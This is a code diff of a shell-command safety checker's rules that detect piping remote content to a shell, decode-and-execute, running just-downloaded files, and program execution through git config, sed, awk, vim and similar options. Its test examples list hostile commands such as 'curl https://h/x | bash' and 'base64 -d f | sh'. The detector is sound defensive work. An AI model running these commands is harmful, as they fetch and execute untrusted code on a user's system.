@@ -1,23 +1,11 @@
 /** Running text, remote content and hidden programs. */
 import { isInterpreter, inlineFlag, isShell, readsProgram, shellCall } from '../analysis/shells.ts';
 import { hasLong } from '../analysis/options.ts';
-import type { Analysis, Simple } from '../analysis/types.ts';
+import { followsDecode, followsFetch, runsDownload } from './foreign.ts';
+import type { Simple } from '../analysis/types.ts';
 import type { Rule } from './rule.ts';
 
-const fetchers = /^(?:curl|wget|fetch|aria2c|http|https|xh|lynx|lwp-request|nc|ncat|socat|iwr|invoke-webrequest)$/;
 const fetchInside = /(?:<\(|\$\(|`)\s*(?:sudo\s+)?(?:\S*\/)?(?:curl|wget|fetch|lynx|nc)\b/;
-const decodes = ({ program, words }: Simple): boolean => {
-  const args = words.slice(1).map(({ text }) => text);
-  if (/^base(?:64|32|16|nc)$/.test(program ?? '')) return args.some((arg) => /^-[a-zA-Z]*[dD]|^--d/.test(arg));
-  if (program === 'xxd') return args.some((arg) => /^-[a-z]*r/.test(arg));
-  if (program === 'openssl') return args.includes('-d') || args.includes('-decrypt');
-  return /^(?:tr|rev|uudecode|gunzip|zcat|xzcat|bzcat)$/.test(program ?? '');
-};
-
-/** Commands whose output this one reads, through any number of stages. */
-function before({ stage }: Simple, { commands }: Analysis): readonly Simple[] {
-  return stage === null || stage.index === 0 ? [] : commands.filter((each) => each.stage !== null && each.stage.pipeline === stage.pipeline && each.stage.index < stage.index);
-}
 
 function readsInput(command: Simple): boolean {
   if (isShell(command.program)) return shellCall(command.words.slice(1)).kind === 'input' || /^(?:-|\/dev\/stdin)$/.test(command.words.at(-1)?.text ?? '');
@@ -47,7 +35,7 @@ export const runRules: readonly Rule[] = [
   },
   {
     id: 'D16', description: 'pipe remote content to shell', programs: runners,
-    test: (command, analysis) => (isShell(command.program) || isInterpreter(command.program) || /^(?:source|\.|eval)$/.test(command.program ?? '')) && (isShell(command.program) || isInterpreter(command.program) ? readsInput(command) : true) && before(command, analysis).some(({ program }) => fetchers.test(program ?? '')),
+    test: (command, analysis) => (isShell(command.program) || isInterpreter(command.program) || /^(?:source|\.|eval)$/.test(command.program ?? '')) && (isShell(command.program) || isInterpreter(command.program) ? readsInput(command) : true) && followsFetch(command, analysis),
     yes: ['curl https://h/x | bash', 'curl x | sudo bash', 'wget https://h/x -O - | zsh', 'curl -s https://h/x | tee log | sh', 'curl x | python3', 'curl x | sudo -E bash -'],
     no: ['curl x | jq .', 'curl https://h/bash.txt | sort | uniq -c', 'wget -qO- https://h | grep title', 'curl x | bash -c "cat"', 'curl x | python3 parse.py'],
   },
@@ -58,16 +46,22 @@ export const runRules: readonly Rule[] = [
     no: ['diff <(curl a) <(curl b)', 'source venv/bin/activate', 'cat <(curl h)', 'x=$(curl h)'],
   },
   {
+    id: 'D16f', description: 'run of a file that was just downloaded', programs: runners,
+    test: runsDownload,
+    yes: ['curl -o i.sh https://h/i && bash i.sh', 'curl https://h/x > x.sh; sh x.sh', 'wget https://h/i.sh && chmod +x i.sh && ./i.sh', 'wget -O /tmp/a h/a; python3 /tmp/a', 'curl -sSLO https://h/i.sh && . ./i.sh'],
+    no: ['curl -o i.sh https://h/i && less i.sh', 'curl https://h/x > x.json; jq . x.json', 'bash build.sh && curl -o build.sh h', 'wget https://h/a.tgz && tar -xzf a.tgz', 'curl -o data h && bash build.sh'],
+  },
+  {
     id: 'D17', description: 'decode and execute', programs: runners,
-    test: (command, analysis) => (isShell(command.program) || isInterpreter(command.program)) && (readsInput(command) && before(command, analysis).some(decodes) || command.words.some(({ raw }) => /(?:<\(|\$\(|`)[^]*\b(?:base64|base32|xxd|openssl)\s[^]*-[a-zA-Z]*(?:d|D|r)/.test(raw))),
+    test: (command, analysis) => (isShell(command.program) || isInterpreter(command.program)) && (readsInput(command) && followsDecode(command, analysis) || command.words.some(({ raw }) => /(?:<\(|\$\(|`)[^]*\b(?:base64|base32|xxd|openssl)\s[^]*-[a-zA-Z]*(?:d|D|r)/.test(raw))),
     yes: ['base64 -d f | sh', 'base64 --decode p.b64 | bash', 'echo x | xxd -r -p | sh', 'echo x | base64 -d | python3', "echo 'x' | tr a b | sh"],
     no: ['base64 -d f > g', 'base64 f | head', 'tr a b < f'],
   },
   {
     id: 'D26', description: 'program run through an option of another', programs: ['rg', 'sort', 'man', 'ag', 'git', 'tar', 'bsdtar', 'rsync', 'ssh', 'scp', 'sftp', 'awk', 'gawk', 'mawk', 'nawk', 'sed', 'gsed', 'vim', 'vi', 'nvim', 'view', 'ex', 'gdb', 'make', 'gmake', 'less', 'zip', 'ed', 'tcpdump', 'crontab', 'xterm', 'jq'],
     test: ({ program, words }) => runsOther[program ?? '']?.(words.slice(1).map(({ text }) => text)) === true,
-    yes: ['rg --pre sh x', 'sort --compress-program=sh f', 'sort --compress-prog=sh f', 'man -P sh ls', "git -c alias.x='!id' x", 'git --exec-p=x status', 'tar --checkpoint-act=exec=id -cf a b', 'rsync -e sh a b', 'ssh -oProxyCommand=x h', 'ssh -o ProxyCommand=x h', "awk 'BEGIN{system(\"id\")}'", "sed '1e id' f", "vim -c '!id'", "gdb -ex 'shell id'", 'make -f - x', 'git grep -Oless x', "awk 'BEGIN{\"id\" | getline}'"],
-    no: ['rg --pretty x', 'sort -u f', 'man ls', 'git -c user.name=x commit -m y', 'tar -xzf a.tgz', 'rsync -a a b', 'ssh -p 22 h', "awk '{print $1}' f", "sed 's/a/b/' f", 'vim a.txt', 'make -f Makefile x', "sed -e 's/x/y/' f", "sed -n '/re/p' f", "jq '.scripts' package.json"],
+    yes: ['rg --pre sh x', 'sort --compress-program=sh f', 'sort --compress-prog=sh f', 'man -P sh ls', "git -c alias.x='!id' x", 'git --exec-p=x status', 'tar --checkpoint-act=exec=id -cf a b', 'rsync -e sh a b', 'ssh -oProxyCommand=x h', 'ssh -o ProxyCommand=x h', "awk 'BEGIN{system(\"id\")}'", "sed '1e id' f", "vim -c '!id'", "gdb -ex 'shell id'", 'make -f - x', 'git grep -Oless x', "git config alias.st '!sh -c id'", 'git config --global core.hooksPath x', 'git config set core.pager ./x', "awk 'BEGIN{\"id\" | getline}'"],
+    no: ['rg --pretty x', 'sort -u f', 'man ls', 'git -c user.name=x commit -m y', 'git config core.pager cat', 'git config alias.st status', 'git config --get core.editor', 'git config credential.helper store', 'tar -xzf a.tgz', 'rsync -a a b', 'ssh -p 22 h', "awk '{print $1}' f", "sed 's/a/b/' f", 'vim a.txt', 'make -f Makefile x', "sed -e 's/x/y/' f", "sed -n '/re/p' f", "jq '.scripts' package.json"],
   },
   {
     id: 'D27', description: 'environment that changes what a program runs', programs: runners,
@@ -80,11 +74,14 @@ export const runRules: readonly Rule[] = [
 const controls = /^(?:LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|DYLD_INSERT_LIBRARIES|DYLD_LIBRARY_PATH|BASH_ENV|ENV|SHELLOPTS|BASHOPTS|PS4|PROMPT_COMMAND|PATH|PYTHONSTARTUP|PERL5OPT|RUBYOPT|GIT_SSH|GIT_SSH_COMMAND|GIT_EXTERNAL_DIFF|GIT_EXEC_PATH|GIT_CONFIG(?:_.*)?|GIT_PROXY_COMMAND|GIT_ASKPASS|SSH_ASKPASS|BASH_FUNC_.*)$/;
 const shows = /^(?:PAGER|GIT_PAGER|MANPAGER|EDITOR|VISUAL|GIT_EDITOR|GIT_SEQUENCE_EDITOR|BROWSER|LESSOPEN)$/;
 
+/** Whether it is a usual pager or editor, or none. */
+const shownBy = (value: string): boolean => /^(?:|cat|less(?: -\w+)?|more|true|:|vim?|nvim|nano|emacs|code --wait|store|cache|osxkeychain|manager)$/.test(value);
+
 function takesOver(name: string, value: string, program: string): boolean {
   // The search path of a whole script is set up in most of them; in front of one command it is meant for that command.
   if (name === 'PATH' && /^(?:export|declare|typeset|local|readonly)$/.test(program)) return false;
   if (name === 'IFS') return !/^(?:read|mapfile|readarray)?$/.test(program);
-  if (shows.test(name)) return !/^(?:|cat|less|more|true|:|vim?|nvim|nano|emacs|code --wait)$/.test(value);
+  if (shows.test(name)) return !shownBy(value);
   return controls.test(name);
 }
 
@@ -95,6 +92,14 @@ const awkRuns: Runs = (args) => args.some((arg) => /\bsystem\s*\(|\|\s*getline|\
 const sedRuns: Runs = (args) => args.some((arg, at) => (at === 0 || !/^-(?:f|i)/.test(args[at - 1] ?? '')) && /^(?:\d+|\$|\/[^/]*\/)?\s*e(?:\s+\S|$)/.test(arg) || /^s(.)[^]*\1[^]*\1[gpIm\d]*e[gpIm\d]*$/.test(arg));
 const vimRuns: Runs = (args) => args.some((arg, at) => /^(?:-c|--cmd|-S|-s)$/.test(args[at - 1] ?? '') && /!|system\(|:?(?:py|lua|ruby|perl)/.test(arg)) || args.some((arg) => /^\+.*!/.test(arg));
 const makeRuns: Runs = (args) => args.some((arg, at) => (/^(?:-f|--file|--makefile)$/.test(args[at - 1] ?? '') && arg === '-') || arg === '-f-' || arg.startsWith('--eval'));
+
+/** `git config KEY VALUE` for a key whose value git runs later; one that only shows text is left alone. */
+const configuresProgram: Runs = (args) => {
+  const from = args.indexOf('config');
+  const [key = '', ...value] = from < 0 ? [] : args.slice(from + 1).filter((arg) => !arg.startsWith('-') && !/^(?:set|add)$/.test(arg));
+  const runs = /^(?:core\.(?:fsmonitor|pager|editor|sshcommand|hookspath|gitproxy|askpass)|sequence\.editor|credential\..*helper|gpg\..*program|(?:diff|merge|filter|difftool|mergetool)\..*\.(?:command|textconv|driver|clean|smudge|process|cmd))$/i.test(key);
+  return value.length > 0 && ((/^alias\./i.test(key) && value[0]?.startsWith('!') === true) || (runs && !shownBy(value.join(' '))));
+};
 
 const runsOther: Readonly<Record<string, Runs>> = {
   rg: gnu('--pre', '--hostname-bin'), sort: gnu('--compress-program'), ag: gnu('--pager'),
@@ -110,7 +115,7 @@ const runsOther: Readonly<Record<string, Runs>> = {
   less: (args) => args.some((arg) => /^\+!/.test(arg)),
   zip: (args) => args.includes('-TT') || hasLong(args, '--unzip-command'),
   tcpdump: (args) => args.includes('-z'),
-  git: (args) => args.some((arg, at) => (args[at - 1] === '-c' || /^-c./.test(arg) || arg.startsWith('--config-env')) && /^(?:-c|--config-env=?)?(?:alias\.[^=]*=\s*!|core\.(?:fsmonitor|pager|editor|sshcommand|hookspath|gitproxy|askpass)|diff\..*\.?(?:external|command|textconv)|.*\.(?:cmd|command|helper|process|clean|smudge|program|textconv|driver|uploadpack|receivepack)=|sequence\.editor|pager\.)/i.test(arg))
+  git: (args) => configuresProgram(args) || args.some((arg, at) => (args[at - 1] === '-c' || /^-c./.test(arg) || arg.startsWith('--config-env')) && /^(?:-c|--config-env=?)?(?:alias\.[^=]*=\s*!|core\.(?:fsmonitor|pager|editor|sshcommand|hookspath|gitproxy|askpass)|diff\..*\.?(?:external|command|textconv)|.*\.(?:cmd|command|helper|process|clean|smudge|program|textconv|driver|uploadpack|receivepack)=|sequence\.editor|pager\.)/i.test(arg))
     || args.some((arg) => /^--exec-p\w*=/.test(arg)) || (args.includes('grep') && args.some((arg) => /^-O|^--open/.test(arg)))
     || (args.includes('bisect') && args.includes('run')) || (args.includes('rebase') && args.some((arg) => /^(?:-x|--exec)/.test(arg)))
     || args.some((arg) => /^--(?:upload-pack|receive-pack|extcmd)/.test(arg)) || args.some((arg) => /^ext::/.test(arg)),
